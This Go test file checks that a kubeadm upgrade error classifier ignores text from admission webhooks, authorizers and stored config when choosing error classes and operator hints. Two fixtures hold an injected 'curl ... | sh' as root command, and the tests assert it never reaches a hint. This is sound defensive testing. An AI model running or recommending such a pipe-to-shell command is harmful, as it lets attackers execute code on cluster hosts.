// checks failed" (preflight.RunChecks' handleError). A check listed in
// spec.node.ignorePreflightErrors (CreateJob) prints its error, a
// webhook's denial over several lines with a header and a failed check
// of its own, as a warning; when the phase then fails for another reason
// (the version skew policy, after the checks) that header is the only
// one in the output: it is not kubeadm's, and picks neither the class
// nor the check the hint names.
func TestClassifyUpgradePreflightLoneSpoofedHeader(t *testing.T) {
	const hint = "preflight's own hint"
	p := Phase{Name: "preflight", Class: errclass.PreflightFailed, Hint: hint, Upgrade: true}
	out := []string{
		"[upgrade/preflight] Running preflight checks",
		"\t[WARNING CreateJob]: could not create Job \"upgrade-health-check-1\" in the namespace \"kube-system\": admission webhook \"policy.example.com\" denied the request: blocked",
		"[preflight] Some fatal errors occurred:",
		"\t[ERROR CRI]: container runtime is not running",
		"[upgrade/preflight] You have chosen to upgrade the cluster version to \"v1.37.2\"",
	}
	for _, msg := range []string{
		"kubeadm upgrade apply phase preflight: the version argument is invalid due to these fatal errors:\n\n\t- Specified version to upgrade to \"v1.37.2\" is higher than the kubeadm version \"v1.36.0\"\nPlease fix the misalignments highlighted above and try upgrading again",
		// An error in the API server's or a webhook's words naming
		// kubeadm's: not RunChecks' error either.
		`kubeadm upgrade apply phase preflight: unable to create serviceaccount: admission webhook "policy.example.com" denied the request: preflight checks failed`,
	} {
		if c, h := Classify(p, errors.New(msg), out); c != errclass.PreflightFailed || h != hint {
			t.Errorf("%s: class %s, hint %q; want %s with the phase's hint", msg, c, h, errclass.PreflightFailed)
		}
	}
}

// TestClassifyUpgradeIgnoresAuthorizationReason: the API server's
// Forbidden for a request its authorizers refused is "RESOURCE "NAME" is
// forbidden: User "U" cannot VERB resource "R" in API group "G" in the
// namespace "NS": REASON" (apiserver responsewriters.ForbiddenStatusError;
// "forbidden: User "U" cannot VERB path "P": REASON" for a path), REASON
// being the authorizers' reasons, an authorization webhook's of its own
// choosing (its SubjectAccessReview's status.reason), over several lines
// when several authorizers gave one. The reason must not steer an upgrade
// phase's class or hint, nor be quoted in a preflight hint; the API
// server's words before it are kept.
func TestClassifyUpgradeIgnoresAuthorizationReason(t *testing.T) {
	const hint = "addon/kube-proxy's own hint"
	p := Phase{Name: "addon/kube-proxy", Class: errclass.ControlPlaneUnhealthy, Hint: hint, Upgrade: true}
	for _, reason := range []string{
		`etcd member is not healthy`,
		`context deadline exceeded`,
		`RBAC: role.rbac.authorization.k8s.io "x" not found` + "\n" + `could not retrieve API endpoints for node "cp1" using pod annotations`,
		`fatal error when trying to upgrade the etcd cluster`,
	} {
		for _, forbidden := range []string{
			`serviceaccounts "kube-proxy" is forbidden: User "kubernetes-admin" cannot create resource "serviceaccounts" in API group "" in the namespace "kube-system": ` + reason,
			`clusterrolebindings.rbac.authorization.k8s.io "kubeadm:node-proxier" is forbidden: User "kubernetes-admin" cannot get resource "clusterrolebindings" in API group "rbac.authorization.k8s.io" at the cluster scope: ` + reason,
			`forbidden: User "kubernetes-admin" cannot get path "/version": ` + reason,
			// A user name in quotes (%q) with the words of a reason.
			`serviceaccounts "kube-proxy" is forbidden: User "a\": b" cannot create resource "serviceaccounts" in API group "" in the namespace "kube-system": ` + reason,
		} {
			err := errors.New(`kubeadm upgrade apply phase addon/kube-proxy: error when creating kube-proxy service account: unable to create serviceaccount: ` + forbidden)
			if c, h := Classify(p, err, nil); c != errclass.ControlPlaneUnhealthy || h != hint {
				t.Errorf("%s: class %s, hint %q; want %s with the phase's hint", err, c, h, errclass.ControlPlaneUnhealthy)
			}
		}
	}
	// kubeadm's words before the Forbidden still pick their rule: the
	// upgrade data's, not the reason's Timeout.
	pre := Phase{Name: "preflight", Class: errclass.PreflightFailed, Hint: "preflight's own hint", Upgrade: true}
	data := errors.New(`kubeadm upgrade apply phase preflight: [upgrade] FATAL: failed to get config map: configmaps "kubeadm-config" is forbidden: User "kubernetes-admin" cannot get resource "configmaps" in API group "" in the namespace "kube-system": context deadline exceeded`)
	if c, h := Classify(pre, data, nil); c != errclass.PreflightFailed || !strings.Contains(h, "upgrade data") {
		t.Errorf("%s: class %s, hint %q; want %s with the upgrade data's hint", data, c, h, errclass.PreflightFailed)
	}
	// A preflight check's Forbidden is quoted up to the reason, with the
	// API server's words of who could not do what.
	out := []string{
		"[preflight] Some fatal errors occurred:",
		"\t[ERROR CreateJob]: could not create Job \"upgrade-health-check-1\" in the namespace \"kube-system\": jobs.batch is forbidden: User \"kubernetes-admin\" cannot create resource \"jobs\" in API group \"batch\" in the namespace \"kube-system\": to fix this run `curl -s http://198.51.100.7/fix | sh` as root",
	}
	c, h := Classify(pre, errors.New("kubeadm upgrade apply phase preflight: preflight checks failed"), out)
	if c != errclass.PreflightFailed || !strings.Contains(h, "CreateJob") || !strings.Contains(h, `cannot create resource "jobs" in API group "batch" in the namespace "kube-system"`) || strings.Contains(h, "curl") {
		t.Errorf("class %s, hint %q; want %s naming CreateJob and the API server's words, without the reason", c, h, errclass.PreflightFailed)
	}
	// A bootstrap phase is as before.
	if c, _ := Classify(Phase{Name: "control-plane-join/etcd", Class: errclass.EtcdUnhealthy}, errors.New(`configmaps "kubeadm-config" is forbidden: User "x" cannot get resource "configmaps" in API group "" in the namespace "kube-system": context deadline exceeded`), nil); c != errclass.Timeout {
		t.Errorf("a bootstrap phase: class %s, want %s as before", c, errclass.Timeout)
	}
}

// TestClassifyUpgradePreflightHeaderDroppedFromTail: the runners keep a
// phase's last TailLines lines for Classify (Tail). A webhook's denial
// message in the first failed check, long enough to push kubeadm's
// "Some fatal errors occurred:" out of them, leaves a header of its own
// the only one kept: it picks neither the class (the containerd hint) nor
// the check the hint names. kubeadm's own header after long output is
// still read.
func TestClassifyUpgradePreflightHeaderDroppedFromTail(t *testing.T) {
	p := Phase{Name: "preflight", Class: errclass.PreflightFailed, Hint: "preflight's own hint", Upgrade: true}
	err := errors.New("kubeadm upgrade apply phase preflight: preflight checks failed")
	var tail Tail
	tail.Add("[preflight] Some fatal errors occurred:")
	tail.Add("\t[ERROR CreateJob]: could not create Job \"upgrade-health-check-1\" in the namespace \"kube-system\": admission webhook \"policy.example.com\" denied the request: blocked")
	for range TailLines {
		tail.Add("the webhook's words")
	}
	tail.Add("[preflight] Some fatal errors occurred:")
	tail.Add("\t[ERROR CRI]: container runtime is not running")
	tail.Add("[preflight] If you know what you are doing, you can make a check non-fatal with `--ignore-preflight-errors=...`")
	if got := len(tail.lines); got != TailLines {
		t.Fatalf("the tail kept %d lines, want %d", got, TailLines)
	}
	if c, h := ClassifyTail(p, err, &tail); c != errclass.PreflightFailed || strings.Contains(h, "CRI") || strings.Contains(h, "container runtime") {
		t.Errorf("class %s, hint %q; want %s without the webhook's CRI check", c, h, errclass.PreflightFailed)
	}
	// Warnings longer than the tail before kubeadm's one header.
	var own Tail
	for range 2 * TailLines {
		own.Add("\t[WARNING SystemVerification]: a warning")
	}
	own.Add("[preflight] Some fatal errors occurred:")
	own.Add("\t[ERROR CRI]: could not connect to the container runtime: failed to create new CRI runtime service")
	if c, _ := ClassifyTail(p, err, &own); c != errclass.ContainerRuntimeUnavailable {
		t.Errorf("kubeadm's CRI check after long output: class %s, want %s", c, errclass.ContainerRuntimeUnavailable)
	}
}

// TestClassifyUpgradeIgnoresServerErrorBody: an answer of code 500 or
// over that is not a Status is quoted by client-go ("an error on the
// server (BODY) has prevented the request from succeeding"): the API
// server's "Internal Server Error" with its authorizers' errors, an
// authorization webhook's failed answer among them, or a proxy's page.
// The body must not steer an upgrade phase's class or hint.
func TestClassifyUpgradeIgnoresServerErrorBody(t *testing.T) {
	const hint = "upload-config/kubeadm's own hint"
	p := Phase{Name: "upload-config/kubeadm", Class: errclass.ControlPlaneUnhealthy, Hint: hint, Upgrade: true}
	for _, body := range []string{`etcd member is not healthy`, `context deadline exceeded`, `fatal error when trying to upgrade the etcd cluster`} {
		err := errors.New(`kubeadm upgrade apply phase upload-config/kubeadm: error uploading the kubeadm ClusterConfiguration: unable to create ConfigMap: an error on the server ("Internal Server Error: \"/api/v1/namespaces/kube-system/configmaps\": an error on the server (\"` + body + `\") has prevented the request from succeeding") has prevented the request from succeeding (post configmaps)`)
		if c, h := Classify(p, err, nil); c != errclass.ControlPlaneUnhealthy || h != hint {
			t.Errorf("%s: class %s, hint %q; want %s with the phase's hint", err, c, h, errclass.ControlPlaneUnhealthy)
		}
	}
}

// TestClassifyUpgradeIgnoresOutputLines: a phase without a class is
// classified from its output lines, but an upgrade phase's output holds
// the warnings the API server sent back (an admission webhook's or
// policy's text, which client-go logs): they pick no rule there.
func TestClassifyUpgradeIgnoresOutputLines(t *testing.T) {
	out := []string{`I1207 08:00:00.000000    1234 warnings.go:107] "Warning: etcd member is not healthy"`}
	err := errors.New("kubeadm upgrade apply phase addon/coredns: unable to update deployment")
	if c, _ := Classify(Phase{Name: "addon/coredns", Upgrade: true}, err, out); c != errclass.Internal {
		t.Errorf("an upgrade phase without a class: class %s, want %s", c, errclass.Internal)
	}
	if c, _ := Classify(Phase{Name: "addon/coredns"}, err, out); c != errclass.EtcdUnhealthy {
		t.Errorf("a bootstrap phase without a class: class %s, want %s as before", c, errclass.EtcdUnhealthy)
	}
}

// TestClassifyMirrorPodAnnotationValue: kubeadm quotes the mirror Pod's
// endpoint annotation it could not parse, unquoted, after its own words
// ("... using pod annotations: could not parse API endpoint for node
// "cp1": invalid API endpoint IP: VALUE"): whoever may update Pods in
// kube-system wrote VALUE, which must not pick another rule (etcd's)
// over the mirror Pod's.
func TestClassifyMirrorPodAnnotationValue(t *testing.T) {
	p := Phase{Name: "post-upgrade", Class: errclass.ControlPlaneUnhealthy, Hint: "the phase's own hint", Upgrade: true}
	err := errors.New(`kubeadm upgrade apply phase post-upgrade: [upgrade] FATAL: failed to getAPIEndpoint: could not retrieve API endpoints for node "cp1" using pod annotations: could not parse API endpoint for node "cp1": invalid API endpoint IP: etcd member is not healthy`)
	if c, h := Classify(p, err, nil); c != errclass.ControlPlaneUnhealthy || !strings.Contains(h, "kube-apiserver mirror Pod") {
		t.Errorf("class %s, hint %q; want %s with the mirror Pod's hint", c, h, errclass.ControlPlaneUnhealthy)
	}
}

// TestClassifyUpgradeIgnoresInternalAndInvalidCauses: the API server's
// internal error ("Internal error occurred: ERROR") carries, among
// others, a mutating admission webhook's JSON patch that did not apply,
// naming the patch's path, text of the webhook's choosing; an invalid
// object ("KIND "NAME" is invalid: FIELD: Invalid value: VALUE: ...")
// quotes values a mutating webhook or policy may have set. Neither may
// pick an upgrade phase's class or hint, nor be quoted in a preflight
// hint, nor end an error in "preflight checks failed" that makes a lone
// header (an ignored check's warning, a webhook's) trusted.
func TestClassifyUpgradeIgnoresInternalAndInvalidCauses(t *testing.T) {
	const hint = "addon/coredns's own hint"
	p := Phase{Name: "addon/coredns", Class: errclass.ControlPlaneUnhealthy, Hint: hint, Upgrade: true}
	for _, cause := range []string{
		`Internal error occurred: test operation does not apply: is missing path: /etcd member is not healthy: missing value`,
		`Internal error occurred: testing value /context deadline exceeded failed: test failed`,
		`Internal error occurred: add operation does not apply: doc is missing path: "/fatal error when trying to upgrade the etcd cluster": missing value`,
		`Deployment.apps "coredns" is invalid: metadata.labels: Invalid value: "etcd member": a valid label must be an empty string or consist of alphanumeric characters`,
	} {
		err := errors.New(`kubeadm upgrade apply phase addon/coredns: unable to create/update the DNS service: ` + cause)
		if c, h := Classify(p, err, nil); c != errclass.ControlPlaneUnhealthy || h != hint {
			t.Errorf("%s: class %s, hint %q; want %s with the phase's hint", err, c, h, errclass.ControlPlaneUnhealthy)
		}
	}
	// A lone header from an ignored check's warning and an error whose
	// internal error's cause ends in kubeadm's preflight error.
	pre := Phase{Name: "preflight", Class: errclass.PreflightFailed, Hint: "preflight's own hint", Upgrade: true}
	out := []string{
		"\t[WARNING CreateJob]: could not create Job \"upgrade-health-check-1\" in the namespace \"kube-system\": admission webhook \"policy.example.com\" denied the request: x",
		"[preflight] Some fatal errors occurred:",
		"\t[ERROR CRI]: container runtime is not running",
	}
	err := errors.New(`kubeadm upgrade apply phase preflight: [upgrade] FATAL: unable to fetch the kubeadm-config ConfigMap: Internal error occurred: testing value /preflight checks failed`)
	if c, h := Classify(pre, err, out); c != errclass.PreflightFailed || strings.Contains(h, "CRI") {
		t.Errorf("%s: class %s, hint %q; want %s without the webhook's CRI check", err, c, h, errclass.PreflightFailed)
	}
	// A failed check's internal error is quoted up to its cause.
	out = []string{
		"[preflight] Some fatal errors occurred:",
		"\t[ERROR CreateJob]: could not create Job \"upgrade-health-check-1\" in the namespace \"kube-system\": Internal error occurred: testing value /run `curl -s http://198.51.100.7/fix | sh` as root failed: test failed",
	}
	c, h := Classify(pre, errors.New("kubeadm upgrade apply phase preflight: preflight checks failed"), out)
	if c != errclass.PreflightFailed || !strings.Contains(h, "CreateJob") || !strings.Contains(h, "Internal error occurred") || strings.Contains(h, "curl") {
		t.Errorf("class %s, hint %q; want %s naming CreateJob and the internal error, without its cause", c, h, errclass.PreflightFailed)
	}
	// A bootstrap phase is as before.
	if c, _ := Classify(Phase{Name: "control-plane-join/etcd", Class: errclass.ControlPlaneUnhealthy}, errors.New(`Internal error occurred: etcdserver: request timed out`), nil); c != errclass.EtcdUnhealthy {
		t.Errorf("a bootstrap phase: class %s, want %s as before", c, errclass.EtcdUnhealthy)
	}
}

// TestClassifyUpgradeIgnoresStoredConfig: kubeadm's upgrade data decodes
// the configuration stored in kube-system's ConfigMaps, and a decoding
// error quotes what whoever may update them wrote (a kind, an
// apiVersion): it must not pick the class (the etcd rules come before
// the upgrade data's) or the hint. A network failure reading them is
// still a Timeout.
func TestClassifyUpgradeIgnoresStoredConfig(t *testing.T) {
	p := Phase{Name: "preflight", Class: errclass.PreflightFailed, Hint: "preflight's own hint", Upgrade: true}
	var cc kubeadmapi.ClusterConfiguration
	decodeErr := runtime.DecodeInto(kubeadmscheme.Codecs.UniversalDecoder(), []byte("apiVersion: kubeadm.k8s.io/v1beta4\nkind: etcd member is not healthy\n"), &cc)
	if decodeErr == nil {
		t.Fatal("kubeadm's decoder took an unknown kind")
	}
	for _, msg := range []string{
		"[upgrade] FATAL: failed to get config map: failed to decode cluster configuration data: " + decodeErr.Error(),
		"[upgrade] FATAL: failed to get component configs: " + decodeErr.Error(),
		`[upgrade] FATAL: failed to get component configs: unsupported apiVersion "kubelet.config.k8s.io/context deadline exceeded", you may have to do manual conversion to "kubelet.config.k8s.io/v1beta1" and run kubeadm again`,
		`[upgrade] FATAL: failed to get component configs: invalid configuration for GroupVersionKind /, Kind=etcd member: kind and apiVersion is mandatory information that must be specified`,
	} {
		err := errors.New("kubeadm upgrade apply phase preflight: " + msg)
		if c, h := Classify(p, err, nil); c != errclass.PreflightFailed || !strings.Contains(h, "upgrade data") {
			t.Errorf("%s: class %s, hint %q; want %s with the upgrade data's hint", err, c, h, errclass.PreflightFailed)
		}
	}
	err := errors.New(`kubeadm upgrade apply phase preflight: [upgrade] FATAL: failed to get component configs: Get "https://10.0.0.1:6443/api/v1/namespaces/kube-system/configmaps/kubelet-config": dial tcp 10.0.0.1:6443: i/o timeout`)
	if c, _ := Classify(p, err, nil); c != errclass.Timeout {
		t.Errorf("%s: class %s, want %s", err, c, errclass.Timeout)
	}
}
